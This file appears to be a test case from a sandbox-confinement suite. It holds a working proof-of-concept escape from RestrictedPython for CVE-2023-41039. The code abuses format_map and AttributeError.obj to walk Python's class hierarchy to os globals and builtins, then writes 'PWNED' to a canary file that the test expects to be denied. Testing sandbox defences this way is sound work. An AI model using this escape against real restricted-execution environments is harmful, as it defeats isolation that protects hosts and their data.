# SPDX-License-Identifier: Apache-2.0
# tries: resolve attributes by format_map, and the objects by the error that follows (P04, P05)
# proof: changed
# expect: openat write deny EACCES @CANARY@/file
# needs: python>=3.10
# for: restricted
#
# CVE-2023-41039.  The guard sees one harmless attribute, format_map; the dotted names in the
# string are resolved in C.  Text would only leak secrets.  With a last name that does not exist,
# the error's `obj` is the object itself, and everything is within reach.  Fixed in
# RestrictedPython 6.2 and 7.0.


def reach(path, start):
    try:
        ('{x.' + path + '.no_such_name}').format_map({'x': start})
    except AttributeError as e:
        return e.obj


for c in reach('__class__.__base__.__subclasses__', ())():
    if 'os._wrap_close' in str(c):
        scope = reach('__init__.__globals__', c)

try:
    scope['__builtins__']['open']('@CANARY@/file', 'w').write('PWNED')
except Exception:
    pass
